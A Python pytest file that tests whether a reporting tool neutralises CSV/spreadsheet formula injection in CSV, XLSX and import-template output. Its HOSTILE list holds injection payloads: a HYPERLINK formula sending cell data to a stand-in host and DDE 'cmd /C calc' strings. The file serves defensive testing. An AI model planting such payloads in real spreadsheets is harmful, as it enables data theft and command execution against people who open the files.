"""Every spreadsheet we write keeps hostile text as data (OWASP CSV injection): vocabulary names that
start a formula reach `report --format csv|xlsx` and the import template neutralised, read back with
the csv module and openpyxl; numbers stay numbers; and the template still imports its own values."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
import yaml

from conftest import copy_project, run_guongsang

HOSTILE = ['=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1dHYPERLINK(\"http://ke-gian.example\")", "\uff0b1"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample with units whose names start formulas (the units that have published profiles)."""
    project = copy_project(tmp_path_factory.mktemp("o-cong-thuc") / "du-an")
    path = project / "exemplars" / "_vocab" / "units.yml"
    units = yaml.safe_load(path.read_text(encoding="utf-8"))
    for unit, name in zip(units, HOSTILE, strict=False):
        unit["name"] = name
    path.write_text(yaml.safe_dump(units, allow_unicode=True), encoding="utf-8")
    assert run_guongsang("check", cwd=project).returncode == 0
    return project


def test_neutralised_in_the_csv_report(hostile: Path) -> None:
    result = run_guongsang("report", "--format", "csv", cwd=hostile)
    assert result.returncode == 0, result.stderr
    cells = [c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for c in row]
    for name in HOSTILE:
        assert "'" + name in cells, name
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b"))]
    assert all(c.isdigit() for c in cells[3::5][1:] if c)  # the count column stays plain numbers


def _cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_neutralised_in_the_xlsx_report(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "bao-cao.xlsx"
    result = run_guongsang("report", "--format", "xlsx", "--output", str(out), cwd=hostile)
    assert result.returncode == 0, result.stderr
    cells = _cells(out)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    for name in HOSTILE:
        assert "'" + name in values, name
    assert not [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b"))]
    assert any(isinstance(v, int) and v > 0 for v in values)  # counts are number cells, not text


def test_neutralised_in_the_import_template_which_still_round_trips(hostile: Path, tmp_path: Path) -> None:
    template = tmp_path / "mau.xlsx"
    result = run_guongsang("import", "--template", str(template), cwd=hostile)
    assert result.returncode == 0, result.stderr
    cells = _cells(template)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    for name in HOSTILE:
        assert "'" + name in values, name
    book = openpyxl.load_workbook(template)
    sheet = book["Danh sách"]
    chosen = "'" + HOSTILE[1]  # what the drop-down puts in the cell
    sheet.append([1, "Đinh Văn Tâm", "Cá nhân", chosen, "Y tế", "Cơ sở", "Giấy khen", 2025, "", "Sơ cứu cho 300 ca."])
    book.save(template)
    filled = run_guongsang("import", str(template), cwd=hostile)
    assert filled.returncode == 0, filled.stderr
    assert "dòng 4: sẽ tạo exemplars/2025/dinh-van-tam.md" in filled.stderr, filled.stderr


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("\uff1d1", "'\uff1d1"), ("\uff20a", "'\uff20a"), ("Tỉnh Sơn Hà", "Tỉnh Sơn Hà"), ("a=b", "a=b"), ("", ""),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_neutralise_table(value: object, written: object) -> None:
    from guongsang.core.cells import neutralise, restore

    assert neutralise(value) == written
    if isinstance(value, str):
        assert restore(neutralise(value)) == value
